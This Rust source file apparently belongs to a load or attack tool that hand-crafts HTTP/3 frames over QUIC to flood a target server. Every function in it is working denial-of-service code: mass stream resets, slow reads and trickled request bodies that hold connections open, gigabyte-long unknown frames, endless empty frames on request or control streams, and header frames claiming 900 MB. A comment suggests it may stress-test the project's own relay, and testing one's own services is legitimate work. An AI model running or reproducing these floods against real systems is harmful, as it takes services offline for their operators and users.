//! Floods over HTTP/3, on QUIC streams by hand: no library would send what they need.

use std::sync::Arc;
use std::time::Duration;

use adit_shared::wire::varint;
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{ClientConfig, Connection, Endpoint, TransportConfig, VarInt};
use tokio::time::interval;

use super::{Flood, US};

/// Requests that are given up at once.
pub(super) async fn resets(flood: &Flood) -> anyhow::Result<()> {
    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
    let get = get(&flood.target.host, "/16384");
    let cancelled = VarInt::from_u32(0x10c);
    let mut ticks = interval(Duration::from_millis(10));
    loop {
        for _ in 0..AT_ONCE {
            let (mut send, mut recv) = connection.open_bi().await?;
            flood.sent();
            send.write_all(&get).await?;
            // Whichever is over already needs no telling.
            drop((send.reset(cancelled), recv.stop(cancelled)));
        }
        ticks.tick().await;
    }
}

/// As many requests as one connection may have, for large responses; a byte of one of them is read each second.
pub(super) async fn slow_reads(flood: &Flood) -> anyhow::Result<()> {
    let mut transport = TransportConfig::default();
    transport.stream_receive_window(VarInt::from_u32(WINDOW));
    let (_endpoint, connection) = dial(flood, transport).await?;
    let get = get(&flood.target.host, "/268435456");
    let mut streams = Vec::new();
    for _ in 0..REQUESTS {
        let (mut send, recv) = connection.open_bi().await?;
        flood.sent();
        send.write_all(&get).await?;
        send.finish()?;
        streams.push(recv);
    }
    let mut ticks = interval(Duration::from_secs(1));
    while let Some(first) = streams.first_mut() {
        ticks.tick().await;
        if first.read(&mut [0]).await.ok().flatten().is_none() {
            streams.swap_remove(0);
        }
    }
    Ok(())
}

/// As many requests as one connection may have, a byte of whose bodies is sent each second.
pub(super) async fn slow_bodies(flood: &Flood) -> anyhow::Result<()> {
    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
    let post = post(&flood.target.host);
    let mut streams = Vec::new();
    for _ in 0..REQUESTS {
        let (mut send, recv) = connection.open_bi().await?;
        flood.sent();
        send.write_all(&post).await?;
        streams.push((send, recv));
    }
    let byte = frame(DATA, 1, b"x");
    let mut ticks = interval(Duration::from_secs(1));
    while !streams.is_empty() {
        ticks.tick().await;
        let mut left = Vec::new();
        for (mut send, recv) in streams {
            if send.write_all(&byte).await.is_ok() {
                left.push((send, recv));
            }
        }
        streams = left;
    }
    Ok(())
}

/// Frames of a GiB that nobody knows, as fast as they are taken.
pub(super) async fn unknown(flood: &Flood) -> anyhow::Result<()> {
    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
    let piece = vec![b'x'; 64 << 10];
    loop {
        let (mut send, _recv) = connection.open_bi().await?;
        flood.sent();
        send.write_all(&frame(UNKNOWN, 1 << 30, &[])).await?;
        for _ in 0..(1 << 30) / piece.len() {
            if send.write_all(&piece).await.is_err() {
                break;
            }
        }
    }
}

/// Frames that nobody knows and that have nothing, as fast as they are taken: behind the head of a request, or
/// on the control stream.
pub(super) async fn frames(flood: &Flood, number: u64) -> anyhow::Result<()> {
    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
    let piece = frame(UNKNOWN, 0, &[]).repeat(FRAMES);
    loop {
        let mut send = if number.is_multiple_of(2) {
            let (mut send, _recv) = connection.open_bi().await?;
            send.write_all(&post(&flood.target.host)).await?;
            send
        } else {
            let mut send = connection.open_uni().await?;
            send.write_all(&[CONTROL, SETTINGS, 0]).await?;
            send
        };
        while send.write_all(&piece).await.is_ok() {
            flood.sent_many(FRAMES as u64);
        }
    }
}

/// Heads that say to have 900 MB, and have as much as is taken.
pub(super) async fn heads(flood: &Flood) -> anyhow::Result<()> {
    let (_endpoint, connection) = dial(flood, TransportConfig::default()).await?;
    let piece = vec![b'x'; 64 << 10];
    for _ in 0..REQUESTS {
        let (mut send, _recv) = connection.open_bi().await?;
        flood.sent();
        send.write_all(&frame(HEADERS, HUGE, &[])).await?;
        // Until the relay wants no more of it.
        while send.write_all(&piece).await.is_ok() {}
    }
    Ok(())
}

async fn dial(flood: &Flood, with: TransportConfig) -> anyhow::Result<(Endpoint, Connection)> {
    let tls = QuicClientConfig::try_from(flood.over_quic.clone())?;
    let mut config = ClientConfig::new(Arc::new(tls));
    config.transport_config(Arc::new(with));
    let endpoint = Endpoint::client((US, 0).into())?;
    let target = &flood.target;
    let connection = endpoint
        .connect_with(config, target.quic, &target.host)?
        .await?;
    Ok((endpoint, connection))
}

/// A frame that says to have `len` bytes, of which these come (RFC 9114 section 7.1).
fn frame(kind: u64, len: u64, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::new();
    varint::put(&mut frame, kind);
    varint::put(&mut frame, len);
    frame.extend(payload);
    frame
}

/// `GET https://HOST/PATH`, in QPACK's static table and plain text (RFC 9204 appendix A).
fn get(host: &str, path: &str) -> Vec<u8> {
    let mut section = vec![0, 0, 0xd1, 0xd7];
    for (name, value) in [(0x50, host), (0x51, path)] {
        section.extend([name, u8::try_from(value.len()).unwrap_or(0)]);
        section.extend(value.as_bytes());
    }
    frame(HEADERS, section.len() as u64, &section)
}

/// `POST https://HOST/`, which declares no length.
fn post(host: &str) -> Vec<u8> {
    let mut section = vec![0, 0, 0xd4, 0xd7, 0xc1];
    section.extend([0x50, u8::try_from(host.len()).unwrap_or(0)]);
    section.extend(host.as_bytes());
    frame(HEADERS, section.len() as u64, &section)
}

const DATA: u64 = 0;
const HEADERS: u64 = 1;
/// A type that is there to be ignored (RFC 9114 section 7.2.8).
const UNKNOWN: u64 = 0x21;
/// What a control stream begins with.
const CONTROL: u8 = 0;
const SETTINGS: u8 = 4;
/// Frames of one write.
const FRAMES: usize = 32 << 10;
const HUGE: u64 = 900_000_000;
/// Requests of one connection at once.
const REQUESTS: usize = 100;
/// Requests every ten milliseconds.
const AT_ONCE: usize = 100;
/// Bytes of a response that may be under way.
const WINDOW: u32 = 16 << 10;
